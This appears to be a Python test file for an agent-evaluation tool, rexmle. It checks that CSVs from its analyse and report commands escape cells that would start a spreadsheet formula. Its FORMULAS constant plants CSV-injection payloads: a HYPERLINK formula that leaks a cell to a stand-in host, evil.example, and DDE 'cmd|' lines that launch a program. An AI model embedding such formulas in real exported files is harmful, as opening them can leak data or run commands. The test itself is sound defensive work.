"""No cell of a CSV rexmle writes starts a spreadsheet formula (issue 31, class 7).

A real run whose agent output is full of formulas: the plans and reviews hold ``=HYPERLINK(...)``, ``@SUM(...)``,
``+cmd|...`` and ``-2+3`` lines, every script starts with the line ``-2+3``, and four crashes each end by printing
one of them (the last line of a crash becomes the failure's detail in the analysis tables). ``rexmle analyse``
(no judge), ``rexmle report --tables`` and ``rexmle report --format csv`` write their CSVs from it: every cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return must be quoted (a leading ``'``) unless it is a
plain number, and every planted formula must have reached a CSV, quoted (or the test would prove nothing).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from rexmle_agents.harness.runner import build_spec, execute_run
from rexmle_agents.harness.spec import Limits
from rexmle_agents.models import Message, Model, ModelResponse, RetryPolicy, ScriptedBackend, ToolCall, ToolSpec
from rexmle_grade.cli import main

from .conftest import GROUP, TASK, load_fakes, needs_bwrap

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3")
FORMULA_LINES = "\n".join(FORMULAS)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
FAKES = load_fakes()
PRINTS = "".join(f"print({line!r})\n" for line in FORMULAS)
# a crash without a traceback: its last printed line becomes the failure's detail in the analysis tables
CRASHES = [f"-2+3\nprint('reading train.csv: No such file or directory')\nprint({line!r})\nraise SystemExit(1)\n"
           for line in FORMULAS]


class FormulaModel(FAKES.FakeModel):  # type: ignore[misc,name-defined]
    """The scaffold tests' fake model, whose plans and reviews are spreadsheet formulas."""

    def __call__(self, messages: Sequence[Message], tools: Sequence[ToolSpec], config: object) -> ModelResponse | str:
        answer = super().__call__(messages, tools, config)
        if isinstance(answer, str):
            return f"{FORMULA_LINES}\n{answer}"
        call = answer.tool_calls[0]
        arguments = {**call.arguments, "summary": f"{FORMULAS[0]}\n{call.arguments.get('summary', '')}"}
        return answer.model_copy(update={"tool_calls": (ToolCall(id=call.id, name=call.name, arguments=arguments),)})


def csv_cells(folder: Path) -> list[tuple[Path, str]]:
    cells = []
    for path in sorted(folder.rglob("*.csv")):
        with path.open(newline="", encoding="utf-8") as handle:
            cells += [(path, cell) for row in csv.reader(handle) for cell in row]
    return cells


@needs_bwrap
def test_no_csv_cell_of_analyse_or_report_starts_a_formula(data_root: Path, tmp_path: Path, capsys: Any) -> None:
    runs = tmp_path / "runs"
    good = FAKES.good(1.0).replace('print("VALIDATION_METRIC:"', PRINTS + '-2+3\nprint("VALIDATION_METRIC:"', 1)
    spec = build_spec(TASK, agent="aide", agent_config={"num_drafts": 5, "debug_prob": 0.0},
                      models={"code": "scripted/model"}, seed=0, sandbox="bwrap", data_root=data_root, group=GROUP,
                      limits=Limits(time_limit_s=120, max_steps=5, exec_timeout_s=30))
    model = Model(ScriptedBackend(FormulaModel([*CRASHES, good])), retry=RetryPolicy(max_attempts=1))
    outcome = execute_run(spec, runs, models={"code": model}, grace_s=5.0)
    assert outcome.state in ("finished", "timed_out"), outcome.reason
    group = runs / GROUP
    analysed, tables = tmp_path / "analysis", tmp_path / "tables"
    assert main(["analyse", str(group), "-o", str(analysed), "--no-view", "--no-figures"]) == 0
    assert main(["report", str(group), "--tables", str(tables), "--bootstrap", "0"]) == 0
    report_csv = tmp_path / "report.csv"
    assert main(["report", str(group), "--format", "csv", "-o", str(report_csv), "--bootstrap", "0"]) == 0
    capsys.readouterr()

    cells = csv_cells(analysed) + csv_cells(tables) + csv_cells(report_csv.parent)
    written = {path.name for path, _ in cells}
    assert {"runs.csv", "nodes.csv", "steps.csv", "failures.csv", "report.csv"} <= written, written
    unsafe = [(path.name, cell[:60]) for path, cell in cells
              if cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)]
    assert not unsafe
    planted = [(path.name, cell) for path, cell in cells if cell.startswith("'")]
    assert {f for f in FORMULAS if any(cell[1:] == f for _, cell in planted)} == set(FORMULAS), planted
